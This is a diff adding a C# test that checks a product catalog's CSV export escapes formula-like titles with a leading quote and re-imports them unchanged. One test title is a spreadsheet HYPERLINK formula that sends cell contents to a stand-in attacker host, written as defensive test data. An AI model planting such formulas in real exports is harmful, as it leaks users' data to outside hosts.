@@ -1,4 +1,5 @@
 using System.Net;
+using System.Net.Http.Json;
 using System.Text;
 using SyncStudio.Catalog;
 using SyncStudio.Data;
@@ -76,6 +77,30 @@ public sealed class ProductExportTests : IAsyncLifetime
         Assert.Empty(read.Errors);
         Assert.Equal(1200, read.Products.Count);
         Assert.Equal(1200, read.Products.Select(p => p.Handle).Distinct().Count());
+    }
+
+    [Fact]
+    public async Task FormulaTitlesAreExportedAsTextAndImportBackUnchanged()
+    {
+        string[] titles = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "+1", "@SUM(A1:A9)", "-2+3"];
+        foreach (var (title, i) in titles.Select((t, i) => (t, i)))
+        {
+            await ApiAssert.OkAsync(await _h.Admin.PostAsJsonAsync("/api/products",
+                new { title, handle = $"formula-{i}", price = 5m, sku = $"F-{i}" }, Ct), HttpStatusCode.Created);
+        }
+
+        var text = await (await _h.Admin.GetAsync("/api/products/export", Ct)).Content.ReadAsStringAsync(Ct);
+
+        // Each title is one quoted cell that begins with a single quote: a spreadsheet shows it as text.
+        Assert.Contains("formula-0,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",", text, StringComparison.Ordinal);
+        Assert.Contains("formula-1,\"'+1\",", text, StringComparison.Ordinal);
+        Assert.Contains("formula-2,\"'@SUM(A1:A9)\",", text, StringComparison.Ordinal);
+        Assert.Contains("formula-3,\"'-2+3\",", text, StringComparison.Ordinal);
+        using var content = new StringContent(text, Encoding.UTF8, "text/csv");
+        var import = await ApiAssert.OkAsync(await _h.Admin.PostAsync("/api/products/import", content, Ct));
+        Assert.Equal((0, 0), (import.GetProperty("created").GetInt32(), import.GetProperty("updated").GetInt32()));
+        var listed = (await ApiAssert.OkAsync(await _h.Admin.GetAsync("/api/products?search=formula-&per_page=10", Ct))).GetProperty("items");
+        Assert.Equal(titles.Order(StringComparer.Ordinal), listed.EnumerateArray().Select(p => p.GetProperty("title").GetString()!).Order(StringComparer.Ordinal));
     }
 
     [Fact]
